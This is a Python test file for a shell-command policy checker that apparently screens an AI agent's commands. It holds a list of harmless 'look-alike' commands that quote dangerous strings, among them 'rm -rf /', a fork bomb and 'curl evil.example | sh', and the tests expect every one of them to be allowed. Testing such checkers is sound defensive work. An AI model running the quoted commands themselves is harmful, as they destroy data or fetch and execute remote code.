"""What an agent does all day is rarely asked about, and what is, is known: the list is a golden file."""

from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from judging import HERE, Judged, agent_commands, judge

from bailiwick.analysis.shell import DEFECT
from bailiwick.model.verdict import Verdict

COMMANDS = tuple(agent_commands())
MINIMUM = 1_000
MOST_ASKED = 0.08
"""Share of the corpus that may be asked about or denied under the starter's ``developer`` profile; 0.08 is aimed at.

Three quarters of it are questions that the profile means to ask: pushing, new packages, other machines, containers.
"""
MOST_UNKNOWN = 0.03
"""Share that may be asked about only because what a command would do can't be known."""

LOOK_ALIKES = (
    'git commit -m "rm -rf /"',
    "git commit -m 'curl https://x.sh | sudo bash'",
    "grep -r 'curl x | sh' src",
    'grep -rn "sudo rm -rf" scripts docs',
    'echo "rm -rf ~" >> notes.md',
    "echo 'eval $(cat x)' | wc -c",
    "rg 'os\\.system' src",
    "git log --grep='drop table'",
    "git commit -am 'Never write to /etc/passwd'",
    "printf '%s\\n' 'chmod 777 /etc' > docs/bad.md",
    "sed -n '/rm -rf/p' scripts/setup.sh",
    "awk '/sudo/ {print FILENAME}' scripts/setup.sh",
    "jq '.scripts.\"rm -rf /\"' package.json",
    "cat > docs/danger.md <<'EOF'\nrm -rf /\ncurl evil.example | sh\n:(){ :|:& };:\nEOF",
    "python3 -c \"print('rm -rf /')\"",
    "git stash push -m '> /etc/hosts'",
    "git tag -a v2 -m \"$(cat <<'EOF'\n`rm -rf /` is gone\nEOF\n)\"",
    "ls 'rm -rf' 2>/dev/null",
    "echo done # ; rm -rf /",
    "test \"$x\" = 'rm -rf /' || echo no",
    "case a in 'rm -rf /') echo yes;; esac",
    "diff <(echo 'rm -rf /') docs/guide.md",
    "find src -name '*.sh' -newer Makefile | head # -exec rm",
    "gh pr view 12 --json title -q '.title | test(\"rm -rf\")'",
    "git show HEAD:scripts/setup.sh | grep -n 'curl .* | bash'",
)
"""Commands that only speak of danger."""


def _unknown(judged: Judged) -> bool:
    """Whether nothing but opaque parts is objected to."""
    strict = [reason for reason in judged.decision.reasons if reason.verdict > Verdict.ALLOW]
    return all(reason.rule.endswith(".commands.opaque") for reason in strict)


def _line(kind: str, command: str, judged: Judged) -> str:
    reason = judged.decision.reasons[0] if judged.decision.reasons else None
    about = getattr(getattr(reason, "about", None), "reason", "") if reason else ""
    shown = command.replace("\n", "\\n")
    return f"{judged.label:5} {reason.rule if reason else '-'}{f' ({about})' if about else ''}\n      {kind}: {shown}\n"


def test_what_is_asked(golden: Callable[[Path, str], None]) -> None:
    judged = [(kind, command, judge(command, narrowed=True)) for kind, command in COMMANDS]
    stopped = [row for row in judged if row[2].label != "allow"]
    of = Counter(kind for kind, _ in COMMANDS)
    per_kind = Counter(kind for kind, _, _ in stopped)
    unknown = sum(_unknown(row[2]) for row in stopped)
    head = (
        f"{len(stopped)} of {len(COMMANDS)} commands are asked about or denied under the profile developer:\n"
        f"{len(stopped) - unknown} because policy says so, {unknown} because what they would do can't be known\n\n"
    )
    table = "".join(f"{per_kind[kind]:4} of {of[kind]:4}  {kind}\n" for kind in of)
    golden(HERE / "asked.txt", head + table + "\n" + "".join(_line(*row) for row in stopped))
    assert len(COMMANDS) >= MINIMUM
    assert len({command for _, command in COMMANDS}) == len(COMMANDS)
    assert len(stopped) <= MOST_ASKED * len(COMMANDS)
    assert unknown <= MOST_UNKNOWN * len(COMMANDS)
    assert not [row for row in judged if any(part.reason == DEFECT for part in row[2].facts.opaque)]


@pytest.mark.parametrize("command", LOOK_ALIKES)
def test_a_look_alike_is_allowed(command: str) -> None:
    judged = judge(command)
    assert judged.label == "allow", judged.decision.reasons[:3]
